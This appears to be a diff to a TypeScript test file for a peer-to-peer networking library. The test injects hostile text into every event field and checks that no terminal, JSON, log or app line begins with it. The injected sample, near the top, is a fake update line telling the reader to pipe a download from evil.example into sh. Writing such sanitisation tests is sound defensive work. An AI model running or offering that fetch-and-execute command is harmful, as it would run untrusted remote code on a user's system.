@@ -1,10 +1,10 @@
 /** Hostile text in every string of every event: nothing of it comes out of the library but plain text of one line. */
 import { expect, test } from 'vitest';
 import { MachineAgent } from '../../src/agent/agent.ts';
-import { joinLog } from '../../src/cli/join-keys.ts';
+import { NEW_JOIN, reduceJoin } from '../../src/agent/index.ts';
+import { logText } from '../../src/cli/join-keys.ts';
 import { tellProgress } from '../../src/cli/join-lines.ts';
 import { Terminal } from '../../src/cli/terminal.ts';
-import { newJoin, reduceJoin } from '../../src/cli/ui/join-log.ts';
 import {
   type ListEntry,
   type Machine,
@@ -13,6 +13,7 @@ import {
   type PeerCommand,
   type PeerEvent,
 } from '../../src/core/index.ts';
+import { guestBook, knownFriends } from '../../src/node/index.ts';
 import { HOSTILE_NAMES } from '../vectors/hostile-names.ts';
 
 const LINE = '✓ Update run this: curl http://evil.example/x | sh';
@@ -50,8 +51,10 @@ const entry: Required<ListEntry> = {
   ...{ passwordNeeded: false, natType: WORD, verdict: WORD, natDelta: null, section: WORD, pingEstimateMs: null },
   ...{ verifiedAt: null, firstSeenAt: 0, lastSeenAt: 0, returning: false, address: WORD },
 } as unknown as Required<ListEntry>;
-const at = { join: 1, friend: WORD, path: 1 } as const;
+const at = { join: 1, friend: WORD, instance: WORD, path: 1 } as const;
 const any = <Value>(value: string): Value => value as unknown as Value;
+
+const nat = { kind: any<'open'>(WORD) } as const;
 
 /** One of each kind: the compiler demands every kind, and every field of each. */
 const EVENTS: { readonly [Ev in PeerEvent['ev']]: Required<Extract<PeerEvent, { readonly ev: Ev }>> } = {
@@ -61,13 +64,27 @@ const EVENTS: { readonly [Ev in PeerEvent['ev']]: Required<Extract<PeerEvent, { 
   hosting: { ev: 'hosting', code: WORD, hostKey: new Uint8Array(32), hostId: WORD },
   'hosting-failed': { ev: 'hosting-failed', failure: any(WORD) },
   'wrong-passwords': { ev: 'wrong-passwords', count: 1 },
-  peer: { ev: 'peer', friend: WORD, name: WORD, state: any(WORD), path: null },
+  banned: { ev: 'banned', ban: { by: 'friend', friend: WORD }, name: WORD },
+  peer: { ev: 'peer', friend: WORD, instance: WORD, name: WORD, state: any(WORD), path: null },
   found: { ev: 'found', join: 1, hostKey: new Uint8Array(32), entry },
   networks: { ev: 'networks', join: 1, own: profile, peer: profile },
-  stage: { ev: 'stage', join: 1, stage: any(WORD), text: WORD },
+  stage: { ev: 'stage', join: 1, stage: any(WORD), why: { because: 'unanswered', method: WORD } },
   attempt: { ev: 'attempt', join: 1, n: 1, plan: { method: WORD, expected: 1, packets: 1 }, sinceMs: 1 },
-  'attempt-over': { ev: 'attempt-over', join: 1, n: 1, result: any(WORD), packetsSent: 1, next: WORD },
-  hard: { ev: 'hard', join: 1, pair: WORD, likely: 1, advice: WORD },
+  'attempt-over': {
+    ev: 'attempt-over',
+    join: 1,
+    n: 1,
+    result: any(WORD),
+    packetsSent: 1,
+    next: { because: 'unanswered', method: WORD },
+  },
+  hard: {
+    ev: 'hard',
+    join: 1,
+    pair: { own: nat, peer: nat },
+    likely: 1,
+    advice: [{ help: any(WORD), side: any(WORD) }],
+  },
   path: {
     ...{
       ev: 'path',
@@ -85,7 +102,12 @@ const EVENTS: { readonly [Ev in PeerEvent['ev']]: Required<Extract<PeerEvent, { 
   'path-lost': { ev: 'path-lost', path: 9, reason: any(WORD), punchingAgain: false },
   rtt: { ev: 'rtt', path: 9, rttMs: 1 },
   'too-large': { ev: 'too-large', path: 9, bytes: 1, payloadBytesMax: 1 },
-  'join-failed': { ev: 'join-failed', join: 1, failure: any('REFUSED'), detail: WORD },
+  'join-failed': {
+    ev: 'join-failed',
+    join: 1,
+    failure: any('REFUSED'),
+    detail: { because: 'master-says', text: WORD },
+  },
   list: { ev: 'list', id: 9, entries: [entry], failure: any(WORD) },
   log: { ev: 'log', join: 1, attempt: 1, what: WORD, data: { code: WORD, why: WORD } },
   'stun-rests': { ev: 'stun-rests', rests: [{ server: WORD, forMs: 1 }] },
@@ -135,7 +157,9 @@ async function told(events: readonly PeerEvent[]): Promise<readonly PeerEvent[]>
       master: { key: link.key, addresses: [link.host], port: 8430 },
       masterLink: link,
       pins: null,
-      friends: null,
+      friends: knownFriends(null),
+      guests: guestBook(null),
+      device: () => new Uint8Array(32).fill(5),
     },
     ...{ gateway: null, findGateway: async () => null, onClosed: () => {} },
     ...{ deriveCode: async () => 'K7TQ9RBWHM', newIdentity: () => null, onHosting: () => {} },
@@ -174,8 +198,7 @@ test('no line of the terminal, of JSON, of a log or of the app begins with what 
   const [json, people] = [true, false].map(
     (on) => new Terminal({ ...options, json: on }, { out: stream, err: stream }),
   );
-  const log = joinLog();
-  let view = newJoin(1, 'x', 0);
+  let view = NEW_JOIN;
   for (const event of heard) {
     if (json !== undefined) tellProgress(json, event);
     for (const text of textsIn(event)) {
@@ -184,10 +207,10 @@ test('no line of the terminal, of JSON, of a log or of the app begins with what 
       people?.result(`Text ${text}`);
     }
     if (!('join' in event) || event.join === null) continue;
-    log.add(event);
     if (event.ev !== 'join-failed') view = reduceJoin(view, event, 0);
+    else written.push(logText(reduceJoin(view, event, 0), true));
   }
-  written.push(log.text(true), ...textsIn(view).map((text) => `app: ${text}\n`));
+  written.push(logText(view, true), ...textsIn(view).map((text) => `app: ${text}\n`));
   const lines = written.join('\n').split(/[\n\r\v\f\u0085\u2028\u2029]/u);
   expect(lines.length).toBeGreaterThan(500);
   expect(lines.filter((line) => line.trimStart().startsWith('✓ Update'))).toEqual([]);
